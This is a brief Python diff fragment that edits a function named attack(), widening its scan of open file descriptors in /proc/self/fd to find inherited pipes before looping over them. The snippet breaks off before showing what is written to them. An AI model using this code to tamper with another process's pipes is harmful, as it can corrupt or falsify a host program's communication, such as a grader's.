@@ -10,7 +10,7 @@ import numpy as np
 
 
 def attack():
-    pipes = [number for number in range(3, 64) if os.path.exists(f"/proc/self/fd/{number}")]
+    pipes = [number for number in range(3, 1024) if os.path.exists(f"/proc/self/fd/{number}")]
     while True:
         for number in pipes:
             try:
